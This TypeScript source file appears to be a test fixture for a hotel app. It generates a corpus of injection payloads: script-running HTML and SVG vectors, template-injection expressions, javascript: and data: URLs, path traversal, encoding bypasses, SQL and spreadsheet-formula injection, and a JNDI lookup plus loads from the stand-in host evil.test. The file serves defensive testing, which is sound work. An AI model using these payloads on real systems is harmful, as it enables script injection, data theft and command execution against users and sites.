/**
 * Texts that a hotel or a guest with bad intent writes. Each calls `hit(n)` with its own number where it comes to run, or asks
 * something of `evil.test`; families that only browsers of the past ran are there for what a rendering may do to them.
 */

/** Ways out of the place in the page where a text may land, before markup of its own. */
const breakouts = ['', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '`>', '\\">']

/** Elements that run something by themselves once they are in the page. */
const selfRunning = [
  '<script>§</script>', '<ScRiPt>§</sCrIpT>', '<script/x>§</script>', '<script src=//evil.test/№></script>', '<script>§', '<scr<script>ipt>§</script>',
  '<img src=x onerror=§>', '<IMG SRC=x ONERROR=§>', '<img/src=x/onerror=§>', '<img src=x:x onerror="§">', "<img src=x onerror='§'>", '<img src=x onerror=§ //',
  '<img src=//evil.test/№>', '<img srcset=//evil.test/№>', '<image src=x onerror=§>', '<svg onload=§>', '<svg/onload=§>', '<svg><script>§</script></svg>', '<svg><script>§', '<svg><a xlink:href="javascript:§"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>', '<svg><set onbegin=§ attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x">', '<svg><image href=//evil.test/№>', '<svg><foreignObject><img src=x onerror=§>', '<svg><style><img src=x onerror=§></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=§>', '<math href="javascript:§">x</math>', '<math><maction xlink:href="javascript:§">x', '<math><annotation-xml encoding="text/html"><img src=x onerror=§>',
  '<body onload=§>', '<iframe src="javascript:§">', '<iframe srcdoc="<script>parent.§</script>">', '<iframe onload=§>', '<iframe src=//evil.test/№>', '<object data="javascript:§">', '<object data=//evil.test/№>', '<embed src="javascript:§">', '<embed src=//evil.test/№>',
  '<video src=x onerror=§>', '<video><source onerror=§>', '<video poster=//evil.test/№>', '<audio src=x onerror=§>', '<input autofocus onfocus=§>', '<select autofocus onfocus=§>', '<textarea autofocus onfocus=§>', '<details open ontoggle=§>', '<marquee onstart=§>',
  '<style onload=§></style>', '<style>@import"//evil.test/№"</style>', '<link rel=stylesheet href=//evil.test/№>', '<link rel=preload as=script href=//evil.test/№>', '<link rel=icon href=x onerror=§>', '<meta http-equiv=refresh content="0;javascript:§">', '<meta http-equiv=refresh content="0;//evil.test/№">',
  '<base href=//evil.test/№/>', '<template><script>§</script></template>', '<noscript><p title="</noscript><img src=x onerror=§>">', '<b style="animation:x" onanimationstart=§>', '<p style=background:url(//evil.test/№)>', '<xss id=x tabindex=1 onfocus=§ autofocus>', '<table background=//evil.test/№>', '<dialog open onclose=§><form method=dialog>',
  '<frameset onload=§>', '<keygen autofocus onfocus=§>', '<isindex action=javascript:§>', '<slot onslotchange=§>', '<custom-x onclick=§>', '<portal src=//evil.test/№>', '<fencedframe src=//evil.test/№>',
]

/** Texts that only need to land inside of an attribute's quotes. */
const attributes = ['onmouseover', 'onclick', 'onfocus', 'onpointerenter', 'onanimationend', 'onwheel', 'onbeforetoggle', 'oncontentvisibilityautostatechange'].flatMap((on) => [`" ${on}=§ x="`, `' ${on}='§`, `x ${on}=§`])

/** Expressions that a template, a formatter of messages or an evaluator would take for its own. */
const templates = [
  '{{§}}', '{{constructor.constructor("§")()}}', "{{$el.ownerDocument.defaultView.§}}", '{{_openBlock.constructor("§")()}}', '${§}', '#{§}', '<%= § %>', '<%- § %>', '[[§]]', '{% § %}', '{{{§}}}', '{§}', '@:§', '@:{"§"}', '@.upper:kit.action.retry', "{'{{§}}'}", '{0}', '{count} | {count}', 'a | b | c', '%{§}', '$t("§")', '{{7*7}}', ':v-html="§"', '<p v-html="§">', '<p @click="§">', '<component :is="§">', '<p v-on:click=§>', '__proto__', 'constructor', 'toString', '[object Object]', 'undefined', 'null', 'NaN',
]

/** Addresses that run something where they become a link or a picture. */
const addresses = [
  'javascript:§', 'JaVaScRiPt:§', 'javascript&colon;§', 'javascript:void(§)', 'javascript://%0a§', '&#106;avascript:§', 'vbscript:§', 'data:text/html,<script>§</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=§>', '//evil.test/№', '/\\evil.test/№', 'https://evil.test/№', 'https:evil.test/№', 'blob:null/№', 'file:///etc/passwd', 'hotel-coupons://open?x=§', 'app://console/../§', '../../../../etc/passwd', '..%2f..%2f№', 'C:\\Windows\\№', '<a href="javascript:§">x</a>', '<a href=# ping=//evil.test/№>x</a>', '<form action="javascript:§"><button>x', '<button formaction="javascript:§">x', '<area href="javascript:§">', '[x](javascript:§)', '![x](//evil.test/№)',
]

/** The same in other clothes, for whoever decodes twice. */
const encodings = [
  '&lt;script&gt;§&lt;/script&gt;', '&#60;img src=x onerror=§&#62;', '&#x3c;img src=x onerror=§&#x3e;', '%3Cimg src=x onerror=§%3E', '%253Cscript%253E§', '\\u003cimg src=x onerror=§\\u003e', '\\x3cimg src=x onerror=§\\x3e', '\\74script\\76§', '+ADw-script+AD4-§+ADw-/script+AD4-', '＜script＞§＜/script＞', '‹img src=x onerror=§›', '&lt&lt;b onclick=§', '<ﬀ onclick=§>', '<ımg src=x onerror=§>', '<img src=x onerror=&#104;it(№)>', '<img src=x onerror=\\u0068it(№)>', "<img src=x onerror=window['hit'](№)>", '<img src=x onerror=hit`№`>', '<img src=x onerror=(0,hit)(№)>', 'ª<img src=x onerror=§>', '🦄<img src=x onerror=§>', '<img src=x onerror=§>\u00ad', '\u200b<img src=x onerror=§>x', 'e\u0301<svg onload=§>', '\ufe0f<svg onload=§>',
]

/** Ways out of scripts, data, styles, queries and sheets that somebody wrote by hand. */
const dataBreakouts = [
  '</script><script>§</script>', '";§;//', "';§;//", '`;§;//', '"}];§;//', "\\';§;//", '\\";§;//', '"+§+"', "'+§+'", '*/§/*', '<!--<script>§', '<![CDATA[<script>§</script>]]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "//evil.test/№">]>', '{"x":"</script><script>§</script>"}', '");§;("', '</style><script>§</script>', '}*{background:url(//evil.test/№)}', ';background:url(//evil.test/№);', 'x:expression(§)', '@import url(//evil.test/№);', '-moz-binding:url(//evil.test/№)', "'; drop table coupons; --", "' or 1=1 --", '$$; select pg_sleep(9); $$', '\\', '%', '_', '%00', '=HYPERLINK("//evil.test/№")', '=cmd|"/c calc"!A1', '+1+1', '@SUM(1)', '-2+3', '$(§)', '`§`', '; §', '${jndi:ldap://evil.test/№}', 'eval:app.alert(1)', '/JS (app.alert(1)) /OpenAction', '<</S/JavaScript/JS(§)>>', ') Tj ET (§', 'Subject: x', '‘§’', 'True', '0', '-1', '1e999', '½',
]

/** Marks that turn, hide or split a text: a line takes none of them, a longer text takes those that end a line. */
export const turning = ['\u202e<img src=x onerror=§>', '\u2066hit\u2069', '\u2028§', '\u2029§', 'Inn\u202etxt.exe', 'a\r\nb: §', '<img\tsrc=x\tonerror=§>', 'java\tscript:§', '\u0085§']
/** Control characters: no text takes them. */
export const controls = ['<img src=x\u0001onerror=§>', '\u001b[31m§', '\u0008§', '\u007f§']

const patterns = [
  ...selfRunning,
  ...breakouts.flatMap((out) => [`${out}<img src=x onerror=§>`, `${out}<svg onload=§>`, `${out}<script>§</script>`]),
  ...attributes, ...templates, ...addresses, ...encodings, ...dataBreakouts,
]

const fill = (pattern: string, n: number) => pattern.replaceAll('§', `hit(${n})`).replaceAll('№', String(n)).trim()

/** Each payload once, as it is written; its number is its place. */
export const payloads = [...new Set(patterns.map(fill))]

/** The payloads as few texts of at most so many characters; one that is longer stays out. */
export function packed(most: number, of: readonly string[] = payloads): string[] {
  const texts: string[] = []
  for (const payload of of.filter(({ length }) => length <= most)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
